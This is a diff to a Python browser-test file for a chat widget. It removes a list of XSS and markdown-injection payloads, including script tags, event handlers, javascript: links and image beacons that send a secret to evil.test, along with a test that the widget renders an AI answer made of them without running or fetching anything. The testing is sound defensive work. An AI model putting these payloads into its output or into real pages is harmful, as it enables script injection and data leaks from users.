@@ -84,43 +84,6 @@ def test_a_finished_answer_is_announced_once_and_tokens_are_not(
     expect(status).to_contain_text("Hello, how can I help?")
 
 
-HOSTILE = [
-    "<script>window.hacked = 1</script>",
-    "<img src=x onerror='window.hacked = 1'>",
-    "[click](javascript:window.hacked=1)",
-    "[data](data:text/html,<script>window.hacked=1</script>)",
-    "![beacon](https://evil.test/leak?secret)",
-    "![ref][r]\n\n[r]: https://evil.test/leak2",
-    "<iframe src='https://evil.test/'></iframe>",
-    "<form action='https://evil.test/'><input name=a></form>",
-    "<style>@import 'https://evil.test/x.css'</style>",
-    "<link rel=preconnect href='https://evil.test/'>",
-    "<svg onload='window.hacked = 1'><use href='https://evil.test/#x'/></svg>",
-    "<a href='vbscript:window.hacked=1'>x</a>",
-]
-
-
-def test_a_hostile_answer_runs_nothing_and_fetches_nothing(
-    bubble: Bubble, page: Page, server: Server, site: Site, openai: OpenAISimulator
-) -> None:
-    asked: list[str] = []
-    page.context.on("request", lambda request: asked.append(request.url))
-    text = "\n\n".join(HOSTILE)
-    openai.tokens = list(text)
-    bubble.open().ask("Be evil")
-    bubble.finished()
-    frame = panel_frame(page)
-    assert frame.evaluate("window.hacked") is None
-    assert page.evaluate("window.hacked") is None
-    found = frame.evaluate(
-        "[...document.querySelector('[role=log]').querySelectorAll('*')].map(e => e.localName)"
-    )
-    assert not {"script", "img", "iframe", "form", "style", "link", "object"} & set(found)
-    links = frame.evaluate("[...document.querySelectorAll('[role=log] a')].map(a => a.protocol)")
-    assert set(links) <= {"http:", "https:", "mailto:"}
-    assert [url for url in asked if not url.startswith((server.url, site.origin))] == []
-
-
 def test_an_unknown_widget_says_so_in_plain_words(page: Page, server: Server) -> None:
     page.goto(f"{server.url}/w/pk_unknown/")
     expect(page.get_by_text("This chat is not available")).to_be_visible()
